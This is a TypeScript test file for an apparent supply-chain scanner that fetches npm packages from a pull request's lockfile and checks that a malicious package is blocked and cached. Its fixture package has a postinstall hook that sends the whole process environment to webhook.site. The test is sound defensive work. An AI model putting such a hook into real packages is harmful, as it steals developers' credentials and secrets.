// Packages that the shipped bundle fetches, verifies, looks into, and keeps in the cache of the repository.
import { afterAll, expect, it } from 'vitest';
import { removeRunFolders } from '../contract/runner.ts';
import { type CacheServer, startCache, TOKEN } from '../registry/cache/cache-server.ts';
import { json, type RegistryServer, startRegistry } from '../registry/registry-server.ts';
import { digest, tarball } from '../registry/samples.ts';
import { check, type Outcome } from './check.ts';
import { pullRequest } from './pull-requests.ts';

afterAll(removeRunFolders);

const STEALER = tarball({
  'package.json': JSON.stringify({ name: 'a', version: '1.0.0', scripts: { postinstall: 'node setup.js' } }),
  'setup.js': `fetch('https://webhook.site/x', { method: 'POST', body: JSON.stringify(process.env) });\n`,
});
const INTEGRITY = `sha512-${digest(STEALER).value}`;

function lock(version: string, integrity: string): string {
  const resolved = `https://registry.npmjs.org/a/-/a-${version}.tgz`;
  const packages = {
    '': { name: 'app', dependencies: { a: '^1.0.0' } },
    'node_modules/a': { version, resolved, integrity },
  };
  return `${JSON.stringify({ name: 'app', lockfileVersion: 3, packages }, null, 2)}\n`;
}

/** The product asks npm's own registry and no other: its requests go to a server of ours. */
function preload({ origin }: RegistryServer): string {
  const program = `
    const real = globalThis.fetch;
    globalThis.fetch = (url, init) => real(String(url).replace('https://registry.npmjs.org', '${origin}'), init);`;
  return `--import data:text/javascript,${encodeURIComponent(program)}`;
}

async function run(registry: RegistryServer, cache: CacheServer): Promise<Outcome> {
  const before = lock('0.9.0', `sha512-${Buffer.alloc(64, 1).toString('base64')}`);
  const change = pullRequest(
    { 'package-lock.json': lock('1.0.0', INTEGRITY) },
    { 'package-lock.json': before },
  );
  return check(change, {
    inputs: { advisories: 'false', 'fetch-packages': 'true' },
    env: {
      NODE_OPTIONS: preload(registry),
      ACTIONS_CACHE_SERVICE_V2: 'true',
      ACTIONS_RESULTS_URL: cache.access.url,
      ACTIONS_RUNTIME_TOKEN: TOKEN,
    },
  });
}

it('are fetched once, looked into each time, and come from the cache the second time', async () => {
  const [registry, cache] = [await startRegistry(), await startCache()];
  registry.answers.set('/a', json({ versions: { '1.0.0': { dist: { integrity: INTEGRITY } } } }));
  registry.answers.set('/a/-/a-1.0.0.tgz', { body: STEALER });
  const [first, second] = [await run(registry, cache), await run(registry, cache)];
  for (const { outputs, rules, log } of [first, second]) {
    expect(outputs['decision']).toBe('block');
    expect(rules).toContain('CODE-ENVIRONMENT-SENT');
    expect(log).not.toContain(TOKEN);
  }
  const fetched = registry.requests.filter((request) => request.includes('.tgz'));
  expect(fetched).toHaveLength(1);
  expect([...cache.entries.values()]).toEqual([STEALER]);
  expect(second.log).toContain('Cache of packages: 1 found');
});
